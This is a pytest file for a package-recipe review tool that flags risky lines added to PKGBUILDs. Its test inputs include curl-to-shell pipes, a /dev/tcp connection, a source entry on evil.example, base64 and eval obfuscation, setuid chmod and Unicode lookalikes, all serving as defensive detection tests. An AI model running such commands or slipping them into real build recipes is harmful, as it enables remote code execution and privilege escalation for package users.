"""What in a changed recipe is pointed out to whoever reviews it."""

import pytest

from quarters.model.review import RiskKind
from quarters.planning.risks import risks

OLD = """\
pkgver=1.0
source=("https://example.org/x-$pkgver.tar.gz")
sha256sums=('0123456789abcdef')
build() {
  make
}
"""


def found(line: str, file: str = "PKGBUILD") -> set[tuple[RiskKind, int]]:
    """The kinds and lines of what is said about one line more, in the sixth place."""
    new = OLD.replace("  make\n", f"  make\n{line}\n")
    return {(it.kind, it.line) for it in risks({file: OLD.encode()}, {file: new.encode()})}


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("  curl -s https://example.org/i | sh", RiskKind.PIPED_SHELL),
        ("  wget -qO- $u | sudo bash -s", RiskKind.PIPED_SHELL),
        ('  bash -c "$(curl -fsSL $u)"', RiskKind.PIPED_SHELL),
        ("  source <(curl $u)", RiskKind.PIPED_SHELL),
        ("  python3 <(wget -O- $u)", RiskKind.PIPED_SHELL),
        ("  curl -O $u", RiskKind.NETWORK),
        ("  git clone $u", RiskKind.NETWORK),
        ("  exec 3<>/dev/tcp/10.0.0.1/80", RiskKind.NETWORK),
        ("  npm install atomic-lockfile", RiskKind.NETWORK),
        ("  pip install thing", RiskKind.NETWORK),
        ("# Maintainer: Mallory <m@example.org>", RiskKind.MAINTAINER),
        ('source+=("git+https://evil.example/x")', RiskKind.SOURCE_HOST),
        ("install=x.install", RiskKind.SCRIPTLET),
        ("  echo aGkK | base64 -d >x", RiskKind.OBFUSCATION),
        ("  eval $x", RiskKind.OBFUSCATION),
        (r"  printf '\x63\x75\x72\x6c'", RiskKind.OBFUSCATION),
        (f"  x={'a' * 600}", RiskKind.OBFUSCATION),
        (f"  x={'aGkK' * 50}", RiskKind.OBFUSCATION),
        ("  cat\u200b x", RiskKind.LOOKALIKE),
        ("  # \u202eevil", RiskKind.LOOKALIKE),
        ("  m\u0430ke", RiskKind.LOOKALIKE),
        ("  chmod 4755 x", RiskKind.PRIVILEGE),
        ("  chmod u+s x", RiskKind.PRIVILEGE),
        ("  install -Dm4755 x y", RiskKind.PRIVILEGE),
        ("  setcap cap_net_admin+ep x", RiskKind.PRIVILEGE),
        ("validpgpkeys=('AB')", RiskKind.SIGNING_KEY),
    ],
)
def test_a_risky_line_is_pointed_out_where_it_is(line: str, kind: RiskKind) -> None:
    assert (kind, 6) in found(line)


@pytest.mark.parametrize(
    "line",
    [
        "  install -Dm755 x y",
        "  chmod 0755 x",
        "pkgdesc='Ein schöner Gruß, für Жанна'",
        "# Contributor: Олег",
        "  make install DESTDIR=$pkgdir",
        'source+=("https://example.org/other")',
        "  ./configure --with-curl | tee log",
    ],
)
def test_what_is_usual_is_not(line: str) -> None:
    assert found(line) == set()


def test_what_was_there_before_is_no_news_wherever_it_moves() -> None:
    before = OLD + "eval $x\n"
    after = "eval $x\n" + OLD
    assert risks({"PKGBUILD": before.encode()}, {"PKGBUILD": after.encode()}) == ()


def test_checksums_are_expected_to_change_with_the_version() -> None:
    other = OLD.replace("0123456789abcdef", "fedcba9876543210")
    (risk,) = risks({"PKGBUILD": OLD.encode()}, {"PKGBUILD": other.encode()})
    assert (risk.kind, risk.line) == (RiskKind.CHECKSUM, 3)
    assert risks({"PKGBUILD": OLD.encode()}, {"PKGBUILD": other.replace("1.0", "2.0").encode()}) == ()


def test_a_checksum_that_is_given_up_is_pointed_out() -> None:
    skipped = OLD.replace("0123456789abcdef", "SKIP").replace("1.0", "2.0")
    (risk,) = risks({"PKGBUILD": OLD.encode()}, {"PKGBUILD": skipped.encode()})
    assert (risk.kind, risk.line) == (RiskKind.CHECKSUM_SKIPPED, 3)


def test_scriptlets_hooks_and_what_is_no_text_are_pointed_out_by_file() -> None:
    new = {"x.install": b"post_install() {\n}\n", "tool": b"\x7fELF\0", ".CI/prepare": b"id\n"}
    new |= {".quarters/prepare": b"id\n", "quarters.toml": b"class = 7\n"}
    assert {(it.kind, it.file) for it in risks({}, new)} == {
        (RiskKind.SCRIPTLET, "x.install"),
        (RiskKind.BINARY, "tool"),
        (RiskKind.HOOK, ".CI/prepare"),
        (RiskKind.HOOK, ".quarters/prepare"),
        (RiskKind.HOOK, "quarters.toml"),
    }


def test_a_stranger_cannot_keep_us_busy() -> None:
    hostile = "\n".join(["chmod " * 160, "curl " * 190, "bash -c " * 120] * 300)
    assert len(risks({}, {"PKGBUILD": hostile.encode()})) <= 200
